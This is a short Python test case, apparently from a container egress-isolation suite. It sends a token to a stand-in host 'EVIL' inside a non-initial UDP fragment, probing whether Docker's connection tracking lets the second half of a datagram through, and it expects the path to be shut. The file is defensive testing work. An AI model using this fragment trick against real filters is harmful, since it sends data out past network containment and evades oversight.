"""
how: the second half of a datagram
expect: shut
unseen: Docker's connection tracking waits for the first half
"""

from frames import by, gateway, ipv4
from land import EVIL


def attempt(token):
    return by(gateway(), ipv4(EVIL, 17, token, fragment=0x0010))
